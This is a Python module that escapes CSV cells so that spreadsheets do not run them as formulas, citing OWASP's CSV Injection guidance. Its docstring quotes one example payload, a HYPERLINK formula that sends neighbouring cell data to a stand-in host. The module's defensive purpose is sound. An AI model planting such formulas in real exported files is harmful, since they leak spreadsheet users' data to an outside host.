"""Cells of every CSV the project writes, safe to open in a spreadsheet (issue 22 B).

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read as a
formula by Excel, LibreOffice and WPS (``=HYPERLINK("http://evil.example/?x="&A1,"click")``
would send the neighbouring cells away). As OWASP's "CSV Injection" page recommends, such a
cell is prefixed with a single quote, which every spreadsheet shows as text; the full-width
forms (＝ ＋ － ＠), which WPS also treats as formula starts, are escaped the same way. A plain
number (``-3.5``, ``+86``) cannot be a formula and is left alone, so coordinates round-trip.
Quoting of separators and quotes is the ``csv`` module's job (it doubles ``"``).
"""

from __future__ import annotations

import re
from typing import Any

#: characters that make a spreadsheet read a cell as a formula (OWASP, plus full-width forms)
FORMULA_STARTS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """``value`` with a leading ``'`` when it is text a spreadsheet would run as a formula;
    anything else (numbers, plain text, None) unchanged."""
    if (
        isinstance(value, str)
        and value
        and value[0] in FORMULA_STARTS
        and not _NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


def safe_row(values: Any) -> list[Any]:
    """Every cell of a row through :func:`safe_cell`."""
    return [safe_cell(v) for v in values]
